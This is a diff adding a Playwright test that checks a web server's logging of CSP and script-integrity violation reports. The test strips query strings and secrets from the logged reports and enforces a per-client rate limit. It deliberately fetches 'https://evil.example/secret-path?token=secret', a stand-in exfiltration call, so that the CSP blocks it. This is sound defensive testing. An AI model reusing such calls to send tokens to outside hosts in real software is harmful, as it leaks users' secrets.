@@ -1,0 +1,81 @@
+import { mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { fileURLToPath } from "node:url";
+import { chromium, expect, test } from "@playwright/test";
+import { ENVIRONMENT } from "../../../packages/server/test/support/environment.ts";
+import { leasePorts } from "../../../packages/server/test/support/lease-ports.mjs";
+import { type Program, run } from "../../../packages/server/test/support/program.ts";
+import { ensureBrowser, launchOptions } from "../../support/browser.mjs";
+import { startTlsProxy } from "../../support/tls-proxy.ts";
+
+/** Browsers send reports to HTTPS only, so the production build runs behind a TLS proxy. */
+const port = await leasePorts();
+const SITE = `https://localhost:${port}`;
+const dataDir = mkdtempSync(join(tmpdir(), "tallybin-reports-"));
+let server: Program;
+let proxy: Awaited<ReturnType<typeof startTlsProxy>>;
+
+test.beforeAll(async () => {
+  server = run([fileURLToPath(new URL("../../../dist/server/serve.js", import.meta.url))], {
+    ...ENVIRONMENT,
+    PORT: String(port + 1),
+    ORIGIN: SITE,
+    DATA_DIR: dataDir,
+    REPORTS: "on",
+    LIMIT_PER_CLIENT: "2/3600",
+    LOG_LEVEL: "info",
+  });
+  await server.says(/"msg":"ready"/);
+  proxy = await startTlsProxy(port, port + 1);
+});
+test.afterAll(async () => {
+  await proxy.close();
+  await server.stop();
+  rmSync(dataDir, { recursive: true, force: true });
+});
+
+test("a browser's reports are logged without address and query, up to the client's limit", async () => {
+  // The headless shell sends no reports. The switch sends them at once instead of after a minute.
+  const { args, ...options } = launchOptions(ensureBrowser());
+  const browser = await chromium.launch({
+    ...options,
+    args: [...args, "--short-reporting-delay", proxy.trust],
+  });
+  const page = await browser.newPage();
+  await page.goto(`${SITE}/auth/signin?oobCode=secret-code#secret-fragment`);
+
+  // Chromium reports each address of a document once.
+  const violate = (address: string) =>
+    page.evaluate((blocked) => fetch(blocked).catch(() => undefined), address);
+  await violate("https://evil.example/secret-path?token=secret");
+  await server.says(/"status":204/);
+
+  const list = await page.locator('meta[name="chunk-integrity"]').getAttribute("content");
+  await page.evaluate(async (href) => {
+    const text = await (await fetch(href)).text();
+    const chunk = /"(\/assets\/judge-[^"]*)"/.exec(text)?.[1];
+    await import(`${chunk}?secret`).catch(() => undefined);
+  }, list?.split(" ")[0] ?? "");
+  await server.says(/"status":204[\s\S]*"status":204/);
+
+  await violate("https://evil.example/another-secret");
+  await server.says(/"status":429/);
+  await browser.close();
+
+  const logged = server
+    .output()
+    .split("\n")
+    .filter((line) => line.includes("violation"))
+    .map((line) => JSON.parse(line));
+  expect(logged).toMatchObject([
+    { type: "csp-violation", page: "/auth/signin", what: "connect-src", blocked: "https://evil.example" },
+    {
+      type: "integrity-violation",
+      page: "/auth/signin",
+      what: "script",
+      blocked: expect.stringMatching(/^\/assets\/judge-[\w-]+\.js$/),
+    },
+  ]);
+  expect(server.output()).not.toMatch(/secret|\?/);
+});
